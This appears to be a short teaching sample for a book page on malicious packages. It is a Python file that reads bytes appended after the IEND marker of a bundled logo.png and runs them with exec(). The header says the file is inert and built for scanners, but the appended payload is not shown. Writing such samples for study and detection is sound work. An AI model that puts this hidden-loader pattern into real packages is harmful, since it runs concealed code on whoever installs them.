# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
from pathlib import Path

_PNG = Path(__file__).with_name("logo.png")

_data = open(_PNG, "rb").read()
exec(_data[_data.rfind(b"IEND") + 8:])
